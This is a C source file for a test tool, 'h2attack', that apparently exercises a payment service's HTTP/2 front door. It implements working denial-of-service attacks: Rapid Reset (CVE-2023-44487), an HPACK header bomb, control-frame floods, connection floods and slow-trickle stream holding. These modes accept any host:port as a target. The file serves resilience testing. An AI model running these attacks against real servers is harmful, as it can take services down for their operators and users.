/* SPDX-License-Identifier: MIT */
/*
 * h2attack.c — h2attack, the attacker of tests/suites/45-front-door: the
 * connection- and HTTP/2-level attacks on paymentd's front door, each as a
 * subcommand, over cleartext HTTP/2 written by hand (preface, SETTINGS,
 * HPACK with static-table indices and literals without indexing; no
 * library, so nothing between the attack and the wire "fixes" it).
 *
 * Contract:
 *   h2attack [--src ADDR] [--target HOST:PORT] [--wait-ms MS] [--pause-ms MS]
 *            [--path PATH] [--max-bytes N] [--hold S] MODE ARGS...
 *     silent N                 N TCP connections that never send a byte
 *     flood SECONDS THREADS    THREADS threads connect and reset-close
 *     rapid-reset PAIRS        HEADERS + RST_STREAM(CANCEL) pairs, one conn
 *     hpack-bomb DECLARED      one header literal declaring DECLARED bytes,
 *                              its value streamed in CONTINUATION frames
 *     ping-flood N | settings-flood N | window-update-flood N
 *     reflection-hold SECONDS  a reflection stream opened (HEADERS only)
 *     trickle SECONDS INTERVAL_MS
 *                              a reflection stream fed one DATA byte per
 *                              INTERVAL_MS, never completing a message
 *   Every connection binds ADDR (default 127.0.0.2) before connect(), so a
 *   per-address limit of the server can be told from the legitimate
 *   client's. After its set-up a mode prints "ready ..." (with --pause-ms it
 *   then waits that long before the abuse, so a test can find the worker
 *   serving it); at the end one machine-readable line
 *     result mode=MODE key=value ...
 *   Times (*_ms) count from the first abusive byte (silent, flood: from the
 *   first connect); -1 means "did not happen". goaway=none|0xCODE.
 *   After the abuse is sent, the server's reaction is awaited --wait-ms
 *   (default 2000). Exit 0 when the attack ran, whatever the server did
 *   (the test judges the result line); 1 if it could not start (connect or
 *   HTTP/2 handshake failed); 2 on a usage error.
 */
#include "common/util.h"

#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/socket.h>

#define H2_DATA          0x0
#define H2_HEADERS       0x1
#define H2_RST_STREAM    0x3
#define H2_SETTINGS      0x4
#define H2_PING          0x6
#define H2_GOAWAY        0x7
#define H2_WINDOW_UPDATE 0x8
#define H2_CONTINUATION  0x9
#define F_END_STREAM     0x1
#define F_ACK            0x1
#define F_END_HEADERS    0x4
#define H2_CANCEL        0x8
#define H2_FRAME_MAX     16384 /* SETTINGS_MAX_FRAME_SIZE default: we never raise it */
#define CONNECT_MS       2000
#define SETTINGS_MS      5000 /* for the server's SETTINGS: a worker may still be starting */
#define BATCH            256  /* frames built per write round */
#define STALL_MS         3000 /* a write that makes no progress this long: the server stopped reading */

#define STOP_GOAWAY   0x1
#define STOP_SETTINGS 0x2
#define STOP_STREAM   0x4

static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
static const char reflection_path[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

static struct {
	struct sockaddr_in src, dst;
	const char *target;
	const char *path;
	int wait_ms, pause_ms, hold_s;
	uint64_t max_bytes;
} O;

/* An output buffer: frames are appended whole and written from off, so
 * frames we add while a write is partial (ACKs) never split one. */
struct buf {
	unsigned char *p;
	size_t off, len, cap;
};

struct conn {
	int fd;
	struct buf out;
	unsigned char in[9 + H2_FRAME_MAX];
	size_t inlen;
	uint64_t skip; /* payload bytes of an oversized frame still to drop */
	int64_t t0;    /* monotonic ms of the first abusive byte (0: not yet) */
	uint64_t bytes_sent, bytes_recv;
	int closed;
	int64_t closed_at;
	int goaway;
	uint32_t goaway_code;
	int64_t goaway_at;
	int got_settings;
	uint64_t rst_recv, ping_acks, settings_acks, frames_recv;
	uint32_t watch_sid; /* stream whose end by the server is recorded */
	int stream_end;     /* 0, 'r' RST_STREAM, 't' END_STREAM */
	uint32_t stream_rst_code;
	int64_t stream_end_at;
};

static void
usage(void)
{
	fprintf(stderr,
	    "usage: h2attack [--src ADDR] [--target HOST:PORT] [--wait-ms MS] [--pause-ms MS]\n"
	    "                [--path PATH] [--max-bytes N] [--hold S] MODE ARGS...\n"
	    "  silent N | flood SECONDS THREADS | rapid-reset PAIRS | hpack-bomb DECLARED_BYTES\n"
	    "  ping-flood N | settings-flood N | window-update-flood N\n"
	    "  reflection-hold SECONDS | trickle SECONDS INTERVAL_MS\n");
	exit(2);
}

static int64_t
num(const char *what, const char *s, int64_t min, int64_t max)
{
	int64_t v;

	if (util_parse_i64(s, min, max, &v) < 0) {
		fprintf(stderr, "h2attack: %s: \"%s\" is not a number in %lld..%lld\n", what, s,
		    (long long)min, (long long)max);
		exit(2);
	}
	return v;
}

static int64_t
since(int64_t t0, int64_t t)
{
	return t0 > 0 && t > 0 ? t - t0 : -1;
}

/* ---- buffers and frames ---------------------------------------------- */

static void
buf_put(struct buf *b, const void *p, size_t n)
{
	if (b->off > 0 && b->off == b->len)
		b->off = b->len = 0;
	if (b->len + n > b->cap) {
		if (b->off > 0) {
			memmove(b->p, b->p + b->off, b->len - b->off);
			b->len -= b->off;
			b->off = 0;
		}
		while (b->len + n > b->cap)
			b->cap = b->cap ? b->cap * 2 : 65536;
		b->p = realloc(b->p, b->cap);
		if (b->p == NULL)
			abort();
	}
	memcpy(b->p + b->len, p, n);
	b->len += n;
}

static size_t
buf_pending(const struct buf *b)
{
	return b->len - b->off;
}

static void
frame(struct buf *b, uint8_t type, uint8_t flags, uint32_t sid, const void *p, size_t n)
{
	unsigned char h[9] = { (unsigned char)(n >> 16), (unsigned char)(n >> 8), (unsigned char)n,
		type, flags, (unsigned char)(sid >> 24 & 0x7f), (unsigned char)(sid >> 16),
		(unsigned char)(sid >> 8), (unsigned char)sid };

	buf_put(b, h, sizeof(h));
	if (n > 0)
		buf_put(b, p, n);
}

static void
put32(unsigned char *p, uint32_t v)
{
	p[0] = (unsigned char)(v >> 24);
	p[1] = (unsigned char)(v >> 16);
	p[2] = (unsigned char)(v >> 8);
	p[3] = (unsigned char)v;
}

static uint32_t
get32(const unsigned char *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

/* ---- HPACK (RFC 7541), encoder side only ----------------------------- */

/* An integer with an N-bit prefix; first carries the pattern bits above it. */
static void
hp_int(struct buf *b, unsigned char first, int prefix, uint64_t v)
{
	unsigned max = (1u << prefix) - 1;
	unsigned char c;

	if (v < max) {
		c = (unsigned char)(first | v);
		buf_put(b, &c, 1);
		return;
	}
	c = (unsigned char)(first | max);
	buf_put(b, &c, 1);
	v -= max;
	while (v >= 128) {
		c = (unsigned char)(v % 128 + 128);
		buf_put(b, &c, 1);
		v /= 128;
	}
	c = (unsigned char)v;
	buf_put(b, &c, 1);
}

static void
hp_str(struct buf *b, const char *s)
{
	size_t n = strlen(s);

	hp_int(b, 0x00, 7, n); /* H=0: no Huffman */
	buf_put(b, s, n);
}

/* Literal header field without indexing, name from the static table. */
static void
hp_lit_idx(struct buf *b, unsigned idx, const char *value)
{
	hp_int(b, 0x00, 4, idx);
	hp_str(b, value);
}

/* Literal header field without indexing, new name. */
static void
hp_lit_new(struct buf *b, const char *name, const char *value)
{
	hp_int(b, 0x00, 4, 0);
	hp_str(b, name);
	hp_str(b, value);
}

/* The header block of a gRPC request for path (no dynamic table: the same
 * bytes open every stream). */
static void
hp_request(struct buf *b, const char *path)
{
	static const unsigned char post_http[] = { 0x83, 0x86 }; /* :method POST, :scheme http */

	buf_put(b, post_http, sizeof(post_http));
	hp_lit_idx(b, 4, path);                /* :path */
	hp_lit_idx(b, 1, O.target);            /* :authority */
	hp_lit_idx(b, 31, "application/grpc"); /* content-type */
	hp_lit_new(b, "te", "trailers");
}

/* ---- the connection -------------------------------------------------- */

/* A TCP socket bound to O.src (any port), non-blocking connect to O.dst.
 * Returns the fd (connect maybe still in progress) or -1. */
static int
open_sock(int nodelay)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	int one = 1;

	if (fd < 0)
		return -1;
	/* The port is chosen at connect(), per destination: bind() alone would
	 * reserve one per source address and run out under a flood. */
	(void)setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one));
	if (nodelay)
		(void)setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&O.src, sizeof(O.src)) < 0 ||
	    (connect(fd, (struct sockaddr *)&O.dst, sizeof(O.dst)) < 0 && errno != EINPROGRESS)) {
		close(fd);
		return -1;
	}
	return fd;
}

/* Waits for a non-blocking connect; 0 when established, else -1 with errno. */
static int
connect_wait(int fd, int ms)
{
	struct pollfd p = { fd, POLLOUT, 0 };
	int err = 0;
	socklen_t len = sizeof(err);

	if (poll(&p, 1, ms) != 1) {
		errno = ETIMEDOUT;
		return -1;
	}
	if (getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &len) < 0)
		return -1;
	errno = err;
	return err != 0 ? -1 : 0;
}

static void
on_frame(
    struct conn *c, uint8_t type, uint8_t flags, uint32_t sid, const unsigned char *p, size_t n)
{
	int64_t now = util_now_ms();

	c->frames_recv++;
	switch (type) {
	case H2_SETTINGS:
		if (flags & F_ACK) {
			c->settings_acks++;
		} else {
			c->got_settings = 1;
			frame(&c->out, H2_SETTINGS, F_ACK, 0, NULL, 0);
		}
		break;
	case H2_PING:
		if (flags & F_ACK)
			c->ping_acks++;
		else if (n == 8)
			frame(
			    &c->out, H2_PING, F_ACK, 0, p, 8); /* the server's own PING: answered */
		break;
	case H2_GOAWAY:
		if (!c->goaway && n >= 8) {
			c->goaway = 1;
			c->goaway_code = get32(p + 4);
			c->goaway_at = now;
		}
		break;
	case H2_RST_STREAM:
		c->rst_recv++;
		if (sid == c->watch_sid && c->watch_sid != 0 && !c->stream_end && n >= 4) {
			c->stream_end = 'r';
			c->stream_rst_code = get32(p);
			c->stream_end_at = now;
		}
		break;
	case H2_HEADERS:
	case H2_DATA:
		if (sid == c->watch_sid && c->watch_sid != 0 && !c->stream_end &&
		    (flags & F_END_STREAM)) {
			c->stream_end = 't';
			c->stream_end_at = now;
		}
		break;
	default: break;
	}
}

/* Parses the frames buffered in c->in. */
static void
parse_in(struct conn *c)
{
	size_t pos = 0;

	for (;;) {
		size_t n;

		if (c->skip > 0) {
			size_t k = c->inlen - pos < c->skip ? c->inlen - pos : (size_t)c->skip;

			pos += k;
			c->skip -= k;
			if (c->skip > 0)
				break;
		}
		if (c->inlen - pos < 9)
			break;
		n = (size_t)c->in[pos] << 16 | (size_t)c->in[pos + 1] << 8 | c->in[pos + 2];
		if (n > H2_FRAME_MAX) { /* not ours to accept: dropped unparsed */
			c->frames_recv++;
			c->skip = n;
			pos += 9;
			continue;
		}
		if (c->inlen - pos < 9 + n)
			break;
		on_frame(c, c->in[pos + 3], c->in[pos + 4], get32(c->in + pos + 5) & 0x7fffffffu,
		    c->in + pos + 9, n);
		pos += 9 + n;
	}
	memmove(c->in, c->in + pos, c->inlen - pos);
	c->inlen -= pos;
}

static void
mark_closed(struct conn *c)
{
	if (!c->closed) {
		c->closed = 1;
		c->closed_at = util_now_ms();
	}
}

/*
 * Runs the connection: writes what is buffered, reads and handles every
 * frame the server sends. Returns 0 when the out buffer is empty (flush
 * set), 1 when a stop condition in stop held, -1 when the connection
 * closed, -2 at deadline (or a write stall of STALL_MS).
 */
static int
drive(struct conn *c, int64_t deadline, int flush, int stop)
{
	int64_t progress = util_now_ms();

	for (;;) {
		struct pollfd p = { c->fd, POLLIN, 0 };
		int64_t now = util_now_ms();
		int ms;

		if ((stop & STOP_GOAWAY) && c->goaway)
			return 1;
		if ((stop & STOP_SETTINGS) && c->got_settings)
			return 1;
		if ((stop & STOP_STREAM) && c->stream_end)
			return 1;
		if (c->closed)
			return -1;
		if (flush && buf_pending(&c->out) == 0)
			return 0;
		if (now >= deadline || (buf_pending(&c->out) > 0 && now - progress >= STALL_MS))
			return -2;
		if (buf_pending(&c->out) > 0)
			p.events |= POLLOUT;
		ms = (int)(deadline - now);
		if (ms > 100)
			ms = 100;
		if (poll(&p, 1, ms) < 0) {
			if (errno == EINTR)
				continue;
			fatal("h2attack: poll: %s", strerror(errno));
		}
		if (p.revents & (POLLIN | POLLHUP | POLLERR)) {
			ssize_t r = read(c->fd, c->in + c->inlen, sizeof(c->in) - c->inlen);

			if (r > 0) {
				c->inlen += (size_t)r;
				c->bytes_recv += (uint64_t)r;
				parse_in(c);
			} else if (r == 0 || (errno != EAGAIN && errno != EINTR)) {
				mark_closed(c);
				continue;
			}
		}
		if ((p.revents & POLLOUT) && buf_pending(&c->out) > 0) {
			ssize_t w = send(
			    c->fd, c->out.p + c->out.off, buf_pending(&c->out), MSG_NOSIGNAL);

			if (w > 0) {
				c->out.off += (size_t)w;
				c->bytes_sent += (uint64_t)w;
				progress = util_now_ms();
			} else if (w < 0 && errno != EAGAIN && errno != EINTR) {
				mark_closed(c);
			}
		}
	}
}

/* Connects from O.src and does the HTTP/2 handshake: our preface and
 * SETTINGS, the server's SETTINGS acknowledged. Exits 1 if that fails. */
static void
h2_open(struct conn *c, const char *mode)
{
	static const unsigned char settings[] = { 0, 2, 0, 0, 0, 0 }; /* ENABLE_PUSH = 0 */
	struct sockaddr_in local = { 0 };
	socklen_t len = sizeof(local);
	int r;

	memset(c, 0, sizeof(*c));
	c->fd = open_sock(1);
	if (c->fd < 0 || connect_wait(c->fd, CONNECT_MS) < 0) {
		printf("result mode=%s error=connect errno=%s\n", mode,
		    strerrorname_np(errno) ? strerrorname_np(errno) : "?");
		exit(1);
	}
	buf_put(&c->out, preface, sizeof(preface) - 1);
	frame(&c->out, H2_SETTINGS, 0, 0, settings, sizeof(settings));
	r = drive(c, util_now_ms() + SETTINGS_MS, 0, STOP_SETTINGS);
	if (r == 1)
		r = drive(c, util_now_ms() + CONNECT_MS, 1, 0);
	if (r != 0) {
		printf("result mode=%s error=handshake got_settings=%d closed=%d goaway=%s\n", mode,
		    c->got_settings, c->closed, c->goaway ? "sent" : "none");
		exit(1);
	}
	if (getsockname(c->fd, (struct sockaddr *)&local, &len) < 0)
		fatal("h2attack: getsockname: %s", strerror(errno));
	printf("ready mode=%s local_port=%u\n", mode, ntohs(local.sin_port));
	fflush(stdout);
	if (O.pause_ms > 0)
		(void)drive(c, util_now_ms() + O.pause_ms, 0, 0);
}

/* After the abuse: waits --wait-ms for a GOAWAY, then as long again at
 * most for the connection to close. */
static void
await_reaction(struct conn *c)
{
	if (drive(c, util_now_ms() + O.wait_ms, 0, STOP_GOAWAY) == 1)
		(void)drive(c, util_now_ms() + O.wait_ms, 0, 0);
}

static void
print_goaway(const struct conn *c)
{
	if (c->goaway)
		printf(" goaway=0x%x goaway_ms=%lld", c->goaway_code,
		    (long long)since(c->t0, c->goaway_at));
	else
		printf(" goaway=none goaway_ms=-1");
	printf(" closed=%d closed_ms=%lld bytes_sent=%llu bytes_recv=%llu", c->closed,
	    (long long)since(c->t0, c->closed_at), (unsigned long long)c->bytes_sent,
	    (unsigned long long)c->bytes_recv);
}

static void
h2_close(struct conn *c)
{
	close(c->fd);
	free(c->out.p);
	c->out = (struct buf){ 0 };
}

/* Was the abuse cut by the server (GOAWAY or close)? */
static int
cut(const struct conn *c)
{
	return c->goaway || c->closed;
}

/* ---- modes ------------------------------------------------------------ */

/* N connections that never send a byte, held until the server closes them
 * or --hold seconds pass. Reports when they were closed. */
static int
mode_silent(int n)
{
	struct pollfd *p = xcalloc((size_t)n, sizeof(*p));
	int64_t t0 = util_now_ms(), end, first = -1, last = -1;
	int i, connected = 0, failed = 0, closed = 0, fast = 0, open_left;
	uint64_t recv_bytes = 0;

	for (i = 0; i < n; i++) {
		p[i].fd = open_sock(0);
		p[i].events = POLLOUT;
		if (p[i].fd < 0)
			failed++;
	}
	/* All connects run at once; each gets CONNECT_MS. */
	for (int64_t dl = util_now_ms() + CONNECT_MS; util_now_ms() < dl;) {
		int waiting = 0;

		for (i = 0; i < n; i++)
			waiting += p[i].fd >= 0 && p[i].events == POLLOUT;
		if (!waiting)
			break;
		if (poll(p, (nfds_t)n, 50) < 0 && errno != EINTR)
			fatal("h2attack: poll: %s", strerror(errno));
		for (i = 0; i < n; i++) {
			int err = 0;
			socklen_t len = sizeof(err);

			if (p[i].fd < 0 || p[i].events != POLLOUT || !p[i].revents)
				continue;
			if (getsockopt(p[i].fd, SOL_SOCKET, SO_ERROR, &err, &len) == 0 &&
			    err == 0) {
				p[i].events = POLLIN;
				connected++;
			} else {
				close(p[i].fd);
				p[i].fd = -1;
				failed++;
			}
		}
	}
	for (i = 0; i < n; i++)
		if (p[i].fd >= 0 && p[i].events == POLLOUT) {
			close(p[i].fd);
			p[i].fd = -1;
			failed++;
		}
	printf("ready mode=silent connected=%d\n", connected);
	fflush(stdout);

	end = t0 + (int64_t)O.hold_s * 1000;
	open_left = connected;
	while (open_left > 0 && util_now_ms() < end) {
		int64_t now;

		if (poll(p, (nfds_t)n, 50) < 0 && errno != EINTR)
			fatal("h2attack: poll: %s", strerror(errno));
		now = util_now_ms();
		for (i = 0; i < n; i++) {
			char b[4096];
			ssize_t r;

			if (p[i].fd < 0 || !p[i].revents)
				continue;
			r = read(p[i].fd, b, sizeof(b));
			if (r > 0) { /* e.g. the server's SETTINGS: a gRPC server may speak first */
				recv_bytes += (uint64_t)r;
				continue;
			}
			if (r < 0 && (errno == EAGAIN || errno == EINTR))
				continue;
			close(p[i].fd);
			p[i].fd = -1;
			closed++;
			open_left--;
			if (first < 0)
				first = now - t0;
			last = now - t0;
			if (now - t0 < 1000)
				fast++;
		}
	}
	printf("result mode=silent requested=%d connected=%d connect_failed=%d closed=%d "
	       "closed_lt1s=%d open=%d first_close_ms=%lld last_close_ms=%lld bytes_recv=%llu\n",
	    n, connected, failed, closed, fast, open_left, (long long)first, (long long)last,
	    (unsigned long long)recv_bytes);
	for (i = 0; i < n; i++)
		if (p[i].fd >= 0)
			close(p[i].fd);
	free(p);
	return 0;
}

static atomic_llong flood_ok, flood_failed;
static int64_t flood_end;

static void *
flood_thread(void *arg)
{
	struct linger lg = { 1, 0 }; /* close with RST: no TIME_WAIT piles up on our side */

	(void)arg;
	while (util_now_ms() < flood_end) {
		int fd = open_sock(0);

		if (fd >= 0 && connect_wait(fd, 1000) == 0)
			atomic_fetch_add(&flood_ok, 1);
		else
			atomic_fetch_add(&flood_failed, 1);
		if (fd >= 0) {
			(void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &lg, sizeof(lg));
			close(fd);
		}
	}
	return NULL;
}

static int
mode_flood(int seconds, int threads)
{
	pthread_t *t = xcalloc((size_t)threads, sizeof(*t));
	int64_t t0 = util_now_ms();
	int i;

	flood_end = t0 + (int64_t)seconds * 1000;
	printf("ready mode=flood\n");
	fflush(stdout);
	for (i = 0; i < threads; i++)
		if (pthread_create(&t[i], NULL, flood_thread, NULL) != 0)
			fatal("h2attack: pthread_create failed");
	for (i = 0; i < threads; i++)
		pthread_join(t[i], NULL);
	printf("result mode=flood seconds=%d threads=%d connects=%lld failed=%lld per_s=%.0f\n",
	    seconds, threads, (long long)flood_ok, (long long)flood_failed,
	    (double)flood_ok * 1000.0 / (double)(util_now_ms() - t0));
	free(t);
	return 0;
}

/* HEADERS of a new request immediately cancelled, PAIRS times (CVE-2023-44487). */
static int
mode_rapid_reset(int64_t pairs)
{
	struct conn c;
	struct buf hb = { 0 };
	unsigned char rst[4];
	int64_t built = 0;
	uint64_t start, pair_len;
	uint32_t sid = 1;

	h2_open(&c, "rapid-reset");
	hp_request(&hb, O.path);
	pair_len = 9 + hb.len + 9 + 4;
	put32(rst, H2_CANCEL);
	start = c.bytes_sent;
	c.t0 = util_now_ms();
	while (built < pairs && !cut(&c)) {
		for (int i = 0; i < BATCH && built < pairs; i++, built++, sid += 2) {
			frame(&c.out, H2_HEADERS, F_END_HEADERS, sid, hb.p, hb.len);
			frame(&c.out, H2_RST_STREAM, 0, sid, rst, sizeof(rst));
		}
		if (drive(&c, util_now_ms() + 60000, 1, STOP_GOAWAY) < 0)
			break;
	}
	await_reaction(&c);
	/* Whole pairs that left (ACKs we sent meanwhile are a few bytes). */
	printf("result mode=rapid-reset pairs=%lld sent_pairs=%llu rst_recv=%llu", (long long)pairs,
	    (unsigned long long)((c.bytes_sent - start) / pair_len),
	    (unsigned long long)c.rst_recv);
	print_goaway(&c);
	printf("\n");
	free(hb.p);
	h2_close(&c);
	return 0;
}

/*
 * One header literal declaring DECLARED bytes of value, streamed in
 * frames of 1 KiB with a pause of 1 ms after each, until the server cuts
 * it or --max-bytes are sent. The pacing makes the count honest: a
 * loopback socket buffers megabytes, so without it "bytes written" would
 * say little about what the server took before it reacted.
 */
static int
mode_hpack_bomb(uint64_t declared)
{
	enum { CHUNK = 1024 };
	struct conn c;
	struct buf hb = { 0 };
	unsigned char fill[CHUNK];
	uint64_t value_sent = 0, header_sent = 0;
	size_t off = 0;
	int first = 1;

	h2_open(&c, "hpack-bomb");
	memset(fill, 'a', sizeof(fill));
	hp_request(&hb, O.path);
	hp_int(&hb, 0x00, 4, 0);
	hp_str(&hb, "x-bomb");
	hp_int(&hb, 0x00, 7, declared); /* the value that never ends */
	c.watch_sid = 1;
	c.t0 = util_now_ms();
	while (!cut(&c) && !c.stream_end && header_sent < O.max_bytes) {
		size_t n;
		uint8_t flags = 0;

		if (off < hb.len) { /* the fields before the bomb, in the first frame */
			n = hb.len - off < CHUNK ? hb.len - off : CHUNK;
			frame(&c.out, first ? H2_HEADERS : H2_CONTINUATION, 0, 1, hb.p + off, n);
			off += n;
		} else {
			n = declared - value_sent < CHUNK ? (size_t)(declared - value_sent) : CHUNK;
			value_sent += n;
			if (value_sent == declared)
				flags = F_END_HEADERS;
			frame(&c.out, first ? H2_HEADERS : H2_CONTINUATION, flags, 1, fill, n);
		}
		first = 0;
		if (drive(&c, util_now_ms() + 60000, 1, STOP_GOAWAY | STOP_STREAM) != 0)
			break;
		header_sent += n;
		if (flags & F_END_HEADERS)
			break;
		(void)drive(&c, util_now_ms() + 1, 0, STOP_GOAWAY | STOP_STREAM);
	}
	await_reaction(&c);
	printf("result mode=hpack-bomb declared=%llu header_bytes_sent=%llu cut=%d stream_reset=%d",
	    (unsigned long long)declared, (unsigned long long)header_sent,
	    cut(&c) || c.stream_end == 'r', c.stream_end == 'r');
	print_goaway(&c);
	printf("\n");
	free(hb.p);
	h2_close(&c);
	return 0;
}

/* N control frames of one kind, sent as fast as the server takes them. */
static int
mode_control_flood(const char *mode, uint8_t type, int64_t n)
{
	static const unsigned char setting[] = { 0, 2, 0, 0, 0, 0 }; /* ENABLE_PUSH = 0 */
	unsigned char payload[8];
	struct conn c;
	int64_t built = 0;
	uint64_t start, per;
	size_t plen;

	h2_open(&c, mode);
	switch (type) {
	case H2_PING: plen = 8; break;
	case H2_SETTINGS:
		plen = sizeof(setting);
		memcpy(payload, setting, plen);
		break;
	default: /* WINDOW_UPDATE of the connection by 1: never near the 2^31-1 limit */
		plen = 4;
		put32(payload, 1);
		break;
	}
	per = 9 + plen;
	start = c.bytes_sent;
	c.t0 = util_now_ms();
	while (built < n && !cut(&c)) {
		for (int i = 0; i < BATCH && built < n; i++, built++) {
			if (type == H2_PING)
				memcpy(payload, &built, sizeof(built));
			frame(&c.out, type, 0, 0, payload, plen);
		}
		if (drive(&c, util_now_ms() + 60000, 1, STOP_GOAWAY) < 0)
			break;
	}
	await_reaction(&c);
	printf("result mode=%s frames=%lld sent=%llu acks=%llu", mode, (long long)n,
	    (unsigned long long)((c.bytes_sent - start) / per),
	    (unsigned long long)(type == H2_PING ? c.ping_acks
	            : type == H2_SETTINGS        ? c.settings_acks
	                                         : 0));
	print_goaway(&c);
	printf("\n");
	h2_close(&c);
	return 0;
}

/*
 * A reflection stream opened and then fed one DATA byte every interval_ms
 * (0: never), of a message that never completes, for up to seconds.
 * Reports when the server ended the stream and when it closed the
 * connection (that is when the worker is free again).
 */
static int
mode_stream_hold(const char *mode, int seconds, int interval_ms)
{
	/* A gRPC message prefix declaring 16 bytes, then a few of them. */
	static const unsigned char msg[] = { 0, 0, 0, 0, 16, 0x0a, 0x0e, 'l', 'o', 'c', 'a', 'l' };
	struct conn c;
	struct buf hb = { 0 };
	int64_t end;
	size_t trickled = 0;

	h2_open(&c, mode);
	hp_request(&hb, reflection_path);
	c.watch_sid = 1;
	c.t0 = util_now_ms();
	frame(&c.out, H2_HEADERS, F_END_HEADERS, 1, hb.p, hb.len);
	end = c.t0 + (int64_t)seconds * 1000;
	while (!c.closed && util_now_ms() < end) {
		int64_t next = interval_ms > 0 ? util_now_ms() + interval_ms : end;

		(void)drive(&c, next < end ? next : end, 0, 0);
		if (interval_ms > 0 && !c.closed && !c.stream_end && trickled < sizeof(msg) &&
		    util_now_ms() < end) {
			frame(&c.out, H2_DATA, 0, 1, msg + trickled, 1);
			trickled++;
		}
	}
	printf("result mode=%s seconds=%d interval_ms=%d trickled=%zu stream_end=%s", mode, seconds,
	    interval_ms, trickled,
	    c.stream_end == 'r'       ? "rst"
	        : c.stream_end == 't' ? "trailers"
	                              : "none");
	if (c.stream_end == 'r')
		printf(" rst_code=0x%x", c.stream_rst_code);
	printf(" stream_end_ms=%lld", (long long)since(c.t0, c.stream_end_at));
	print_goaway(&c);
	printf("\n");
	free(hb.p);
	h2_close(&c);
	return 0;
}

/* ---- main --------------------------------------------------------------- */

static void
parse_addr(struct sockaddr_in *sa, const char *host, int port, const char *what)
{
	memset(sa, 0, sizeof(*sa));
	sa->sin_family = AF_INET;
	sa->sin_port = htons((uint16_t)port);
	if (inet_pton(AF_INET, host, &sa->sin_addr) != 1) {
		fprintf(stderr, "h2attack: %s: \"%s\" is not an IPv4 address\n", what, host);
		exit(2);
	}
}

int
main(int argc, char **argv)
{
	const char *src = "127.0.0.2", *mode, *env = getenv("PAYMENTD_TARGET");
	char host[64];
	const char *colon;
	int i;

	O.target = env != NULL ? env : "127.0.0.1:50051";
	O.path = "/grpc.health.v1.Health/Check";
	O.wait_ms = 2000;
	O.hold_s = 10;
	O.max_bytes = 1u << 20;
	for (i = 1; i < argc && strncmp(argv[i], "--", 2) == 0; i += 2) {
		const char *o = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;

		if (v == NULL)
			usage();
		if (strcmp(o, "--src") == 0)
			src = v;
		else if (strcmp(o, "--target") == 0)
			O.target = v;
		else if (strcmp(o, "--path") == 0)
			O.path = v;
		else if (strcmp(o, "--wait-ms") == 0)
			O.wait_ms = (int)num(o, v, 0, 600000);
		else if (strcmp(o, "--pause-ms") == 0)
			O.pause_ms = (int)num(o, v, 0, 600000);
		else if (strcmp(o, "--hold") == 0)
			O.hold_s = (int)num(o, v, 1, 86400);
		else if (strcmp(o, "--max-bytes") == 0)
			O.max_bytes = (uint64_t)num(o, v, 1, INT64_MAX);
		else
			usage();
	}
	if (i >= argc)
		usage();
	mode = argv[i++];
	colon = strrchr(O.target, ':');
	if (colon == NULL || (size_t)(colon - O.target) >= sizeof(host))
		usage();
	memcpy(host, O.target, (size_t)(colon - O.target));
	host[colon - O.target] = '\0';
	parse_addr(&O.dst, host, (int)num("--target port", colon + 1, 1, 65535), "--target");
	parse_addr(&O.src, src, 0, "--src");
	setvbuf(stdout, NULL, _IOLBF, 0);

#define ARGS(k) \
	do { \
		if (argc - i != (k)) \
			usage(); \
	} while (0)
	if (strcmp(mode, "silent") == 0) {
		ARGS(1);
		return mode_silent((int)num("N", argv[i], 1, 60000));
	}
	if (strcmp(mode, "flood") == 0) {
		ARGS(2);
		return mode_flood((int)num("SECONDS", argv[i], 1, 3600),
		    (int)num("THREADS", argv[i + 1], 1, 256));
	}
	if (strcmp(mode, "rapid-reset") == 0) {
		ARGS(1);
		return mode_rapid_reset(num("PAIRS", argv[i], 1, 1000000000)); /* sids < 2^31 */
	}
	if (strcmp(mode, "hpack-bomb") == 0) {
		ARGS(1);
		return mode_hpack_bomb((uint64_t)num("DECLARED_BYTES", argv[i], 1, INT64_MAX));
	}
	if (strcmp(mode, "ping-flood") == 0) {
		ARGS(1);
		return mode_control_flood(mode, H2_PING, num("N", argv[i], 1, INT64_MAX));
	}
	if (strcmp(mode, "settings-flood") == 0) {
		ARGS(1);
		return mode_control_flood(mode, H2_SETTINGS, num("N", argv[i], 1, INT64_MAX));
	}
	if (strcmp(mode, "window-update-flood") == 0) {
		ARGS(1);
		return mode_control_flood(mode, H2_WINDOW_UPDATE, num("N", argv[i], 1, 1000000000));
	}
	if (strcmp(mode, "reflection-hold") == 0) {
		ARGS(1);
		return mode_stream_hold(mode, (int)num("SECONDS", argv[i], 1, 86400), 0);
	}
	if (strcmp(mode, "trickle") == 0) {
		ARGS(2);
		return mode_stream_hold(mode, (int)num("SECONDS", argv[i], 1, 86400),
		    (int)num("INTERVAL_MS", argv[i + 1], 1, 3600000));
	}
#undef ARGS
	usage();
}
